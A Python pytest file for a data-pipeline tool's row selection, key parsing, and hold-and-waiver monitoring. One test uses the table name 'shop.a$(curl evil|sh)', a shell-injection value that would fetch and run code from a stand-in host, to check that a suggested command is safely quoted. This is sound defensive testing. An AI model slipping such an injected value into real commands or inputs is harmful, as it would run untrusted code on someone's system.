"""Rows that a person or a check names become keys and ranges, and what names none is refused."""

import json
from dataclasses import replace
from datetime import timedelta

import pytest

from alerts.model import AlertKind
from monitor.row_selection import select_failed_rows, select_rows
from pipeline.backfill_state import SelectedKey, SelectedRange
from pipeline.errors import ConfigError
from pipeline.model import Account, Shard, Table
from pipeline.reports import Hold, MergeReport
from pipeline.schema.model import Column
from pipeline.sources.mysql.types import MySqlColumn
from pipeline.sources.postgres.types import PostgresColumn
from tests.builders.values import verdict
from tests.monitor.rig import ORDERS, USERS, Rig

S0, S1 = Shard("shop", "shop.t_0"), Shard("shop", "shop.t_1")
IDS = Table("shop.t", (S0, S1), ("id",), "id")
WORDS = Table("shop.w", (S0,), ("name",))
PAIRS = Table("shop.p", (S0,), ("a", "b"))


def test_ids_that_touch_are_one_range() -> None:
    found = select_rows(IDS, ["7", "8", "8", "-3"], ["9..12", "30 .. 30"], 100)

    assert found.ranges == (SelectedRange(-3, -3), SelectedRange(7, 12), SelectedRange(30, 30))
    assert (found.keys, found.most) == ((), 100)


def test_many_ids_are_read_by_their_keys() -> None:
    found = select_rows(IDS, [str(2 * n) for n in range(60)], [], 100)

    assert (len(found.keys), found.ranges) == (60, ())


@pytest.mark.parametrize(
    ("table", "text", "key"),
    [
        pytest.param(WORDS, "it's", SelectedKey('["it\'s"]'), id="a bare text"),
        pytest.param(WORDS, "7", SelectedKey('["7"]'), id="a text of digits"),
        pytest.param(WORDS, '["[x]"]', SelectedKey('["[x]"]'), id="a text in an array"),
        pytest.param(PAIRS, '[1, "x"]', SelectedKey('["1","x"]'), id="two columns"),
        pytest.param(
            PAIRS,
            '["shop","shop.t_0","1","x"]',
            SelectedKey('["1","x"]', "shop/shop.t_0"),
            id="log",
        ),
        pytest.param(PAIRS, "[true, 1.50]", SelectedKey('["true","1.5"]'), id="other kinds"),
    ],
)
def test_a_key_is_written_as_the_log_writes_it(table: Table, text: str, key: SelectedKey) -> None:
    assert select_rows(table, [text], [], 9).keys == (key,)


@pytest.mark.parametrize(
    ("table", "keys", "ranges", "why"),
    [
        pytest.param(IDS, [], [], "no rows are named: give --keys", id="nothing"),
        pytest.param(PAIRS, ["7"], [], "key is a, b; write a JSON array", id="half a key"),
        pytest.param(PAIRS, ["[7]"], [], "whose key is a, b", id="half an array"),
        pytest.param(PAIRS, ["[7"], [], "it is not a JSON array", id="no JSON"),
        pytest.param(WORDS, ["[null]"], [], "whose key is name", id="null"),
        pytest.param(IDS, [], ["9..7"], "write 7..9", id="backwards"),
        pytest.param(IDS, [], ["x"], "write 17..29", id="no range"),
        pytest.param(IDS, ["1", "2", "3"], [], "3 keys are named, 2 rows", id="too many"),
    ],
)
def test_what_names_no_row_is_refused_in_words(
    table: Table, keys: list[str], ranges: list[str], why: str
) -> None:
    with pytest.raises(ConfigError) as refused:
        select_rows(table, keys, ranges, 2)

    assert why in str(refused.value)


def test_what_checks_name_is_read_in_the_shards_they_name() -> None:
    fails = [
        verdict(
            "fail",
            "shop/shop.t_0:17-29",
            "shop/shop.t_1:-5--3",
            check="range_counts",
            table="shop.t",
        ),
        verdict("fail", "shop/shop.t_1:100", check="max_id", table="shop.t", value=4.0),
        verdict("fail", "shop/shop.t_0:31", check="max_id", table="shop.t", value=-2.0),
        verdict("fail", 'topic:0:42 ["shop","shop.t_1","7"]', check="offset_keys", table="shop.t"),
        verdict("fail", "whatever", check="volatility", table="shop.t"),
    ]

    found = select_failed_rows(IDS, fails, 9)

    assert found.ranges == (
        SelectedRange(17, 31, "shop/shop.t_0"),
        SelectedRange(-5, -3, "shop/shop.t_1"),
        SelectedRange(97, 100, "shop/shop.t_1"),
    )
    assert found.keys == (SelectedKey('["7"]', "shop/shop.t_1"),)


@pytest.mark.parametrize(
    ("columns", "named", "key"),
    [
        pytest.param((), '["shop","shop.t_0","17","1"]', ["17", "1"], id="unknown columns"),
        pytest.param(
            (MySqlColumn("a", "INT"), MySqlColumn("b", "VARCHAR", length=9)),
            '["shop","shop.t_0","17","00ff"]',
            ["17", "00ff"],
            id="digits in a text",
        ),
        pytest.param(
            (MySqlColumn("a", "INT"), MySqlColumn("b", "BINARY", length=2)),
            '["shop","shop.t_0","17","00ff"]',
            ["17", "AP8="],
            id="bytes",
        ),
        pytest.param(
            (MySqlColumn("a", "DATE"), MySqlColumn("b", "DATETIME", length=3)),
            '["shop","shop.t_0","2026-03-01","2026-03-01 10:00:00.500000"]',
            ["20513", "1772359200500"],
            id="a day and milliseconds",
        ),
        pytest.param(
            (MySqlColumn("a", "TIMESTAMP"), MySqlColumn("b", "DATETIME", length=6)),
            '["shop","shop.t_0","2026-03-01 10:00:00+00:00","2026-03-01 10:00:00"]',
            ["2026-03-01T10:00:00Z", "1772359200000000"],
            id="an instant and microseconds",
        ),
        pytest.param(
            (MySqlColumn("a", "TIMESTAMP"), MySqlColumn("b", "BIGINT")),
            '["shop","shop.t_0","2026-03-01 10:00:00","7"]',
            ["2026-03-01T10:00:00Z", "7"],
            id="an instant without its zone",
        ),
        pytest.param(
            (
                MySqlColumn("a", "VARCHAR", length=20),
                MySqlColumn("b", "DECIMAL", length=5, scale=2),
            ),
            '["shop","shop.t_0","2026-03-01","1.50"]',
            ["2026-03-01", "1.50"],
            id="a text and a decimal",
        ),
    ],
)
def test_rows_that_a_comparison_names_by_keys_are_read_by_these(
    columns: tuple[MySqlColumn, ...], named: str, key: list[str]
) -> None:
    differs = verdict("fail", named, check="values", table="shop.p")

    found = select_failed_rows(PAIRS, [differs], 9, columns)

    assert (found.keys, found.ranges) == (
        (SelectedKey(json.dumps(key, separators=(",", ":")), "shop/shop.t_0"),),
        (),
    )


def test_a_key_that_is_unique_across_shards_is_read_in_each() -> None:
    unique = replace(PAIRS, shards=(S0, S1), unique_across_shards=True)
    differs = verdict("fail", '["17","x"]', check="values", table="shop.p")

    assert select_failed_rows(unique, [differs], 9).keys == (SelectedKey('["17","x"]'),)


def test_checks_that_name_no_row_are_no_ground_for_a_repair() -> None:
    with pytest.raises(ConfigError, match=r"no check names rows of shop\.t"):
        select_failed_rows(IDS, [verdict("fail", "x", check="volatility", table="shop.t")], 9)


def test_the_command_for_a_new_base_names_the_table_alone() -> None:
    """A person pastes it into a shell."""
    with pytest.raises(ConfigError) as refused:
        select_failed_rows(replace(IDS, name="shop.a$(curl evil|sh)"), [], 9)

    assert str(refused.value).endswith("`sluice bootstrap 'shop.a$(curl evil|sh)' --reason ...`")


def refusal(columns: list[Column], *values: str) -> str:
    table = Table("shop.t", (S0,), tuple(one.name for one in columns))
    try:
        select_rows(table, [json.dumps(values)], [], 9, columns)
    except ConfigError as error:
        return str(error)
    return ""


@pytest.mark.parametrize(
    ("column", "right", "wrong"),
    [
        pytest.param(MySqlColumn("k", "BIGINT"), ["7", "-7"], ["abc", "1e3", "7.0"], id="bigint"),
        pytest.param(
            MySqlColumn("k", "BIGINT UNSIGNED"), ["7", "Bw=="], ["-7", "x"], id="unsigned"
        ),
        pytest.param(MySqlColumn("k", "TINYINT"), ["7"], ["300"], id="tinyint"),
        pytest.param(MySqlColumn("k", "DATE"), ["20514", "2026-03-01"], ["soon"], id="date"),
        pytest.param(
            MySqlColumn("k", "DECIMAL", length=5, scale=2),
            ["1.50"],
            ["x", "12345.00"],
            id="decimal",
        ),
        pytest.param(MySqlColumn("k", "VARCHAR", length=9), ["7", "x y"], [], id="text"),
        pytest.param(PostgresColumn("k", "INT4"), ["7"], ["abc", "9999999999"], id="int4"),
        pytest.param(
            PostgresColumn("k", "UUID"), ["6f1e7d3a-0b1c-4d2e-8f3a-123456789abc"], ["x"], id="uuid"
        ),
        pytest.param(
            PostgresColumn("k", "NUMERIC", length=5, scale=2), ["1.5"], ["x"], id="numeric"
        ),
        pytest.param(PostgresColumn("k", "TIMESTAMPTZ"), ["2026-03-01T00:00:00Z"], ["x"], id="tz"),
    ],
)
def test_f189_a_key_value_is_of_its_columns_type(
    column: Column, right: list[str], wrong: list[str]
) -> None:
    assert [refusal([column], text) for text in right] == ["" for _ in right]
    assert all("is no value of key column k of table shop.t" in refusal([column], t) for t in wrong)


def test_f189_each_column_of_a_key_has_its_own_type() -> None:
    columns: list[Column] = [MySqlColumn("a", "INT"), MySqlColumn("b", "VARCHAR")]

    assert refusal(columns, "7", "x") == ""
    assert "'x' is no value of key column a of table shop.t, which is INT" in refusal(
        columns, "x", "7"
    )


@pytest.mark.parametrize(
    ("table", "span", "why"),
    [
        pytest.param(WORDS, "1..2", "has no ranges of ids: the key is not one integer", id="text"),
        pytest.param(PAIRS, "1..2", "has no ranges of ids", id="two columns"),
        pytest.param(IDS, f"1..{10**20}", "write 17..29", id="beyond any id"),
    ],
)
def test_f189_a_range_that_no_key_has_is_refused(table: Table, span: str, why: str) -> None:
    with pytest.raises(ConfigError, match=why):
        select_rows(table, [], [span], 9)


FIRST, GROWN = f"invalid:{USERS}:5-9@5f3a90c1", f"invalid:{USERS}:5-12@5f3a90c1"


def turn(rig: Rig, id_: str | None) -> None:
    """What the pass tells of the table; None: it has gone on."""
    text = 'not_null: email is NULL in 1 row, key ["shop","shop.users","a@b.c"]'
    hold = None if id_ is None else Hold(id_, USERS, "invalid", f"{text}; waive {id_}")
    told = MergeReport(USERS, 1, 1, Account(), rig.now, timedelta(), hold)
    rig.hold_registry.applied([told], rig.now)


def watch(rig: Rig, seconds: int = 5) -> None:
    rig.second(seconds)
    rig.write_heartbeat()
    rig.cycle.watch()


@pytest.fixture
def held(rig: Rig) -> Rig:
    rig.round(2)
    turn(rig, FIRST)
    watch(rig)
    return rig


def about(rig: Rig) -> list[tuple[AlertKind, str]]:
    return [(one.cause.kind, one.cause.subject) for one in rig.store.incidents.open()]


def waived(rig: Rig, id_: str) -> int:
    body = {"id": id_, "reason": "the shop's own test rows", "who": "ann"}
    return rig.client.post("/v1/waivers", json=body).status_code


def test_a_slice_that_grows_is_one_incident_of_its_table_alone(held: Rig) -> None:
    before = about(held)
    turn(held, GROWN)
    watch(held)

    assert before == about(held) == [(AlertKind.BLOCKED, USERS)]
    cut = held.now.isoformat()
    status, answer = held.ask(USERS, cut=cut)
    assert (status, answer["state"]) == (409, "blocked")
    assert GROWN in str(answer)
    assert held.ask(ORDERS, cut=cut)[0] != 409


def test_only_the_slice_that_stands_now_can_be_let_through_and_who_did_is_kept(held: Rig) -> None:
    turn(held, GROWN)
    watch(held)

    assert waived(held, FIRST) == 404
    assert waived(held, GROWN) == 201
    (kept,) = held.store.waivers.list()
    assert (kept.id, kept.who) == (GROWN, "ann")


def test_a_restart_remembers_what_is_held(held: Rig) -> None:
    held.restart()
    watch(held)

    assert about(held) == [(AlertKind.BLOCKED, USERS)]
    assert [hold.id for hold in held.hold_registry.holds()] == [FIRST]


def test_once_it_goes_on_the_incident_ends(held: Rig) -> None:
    turn(held, None)
    for _ in range(3):
        watch(held)

    assert about(held) == []
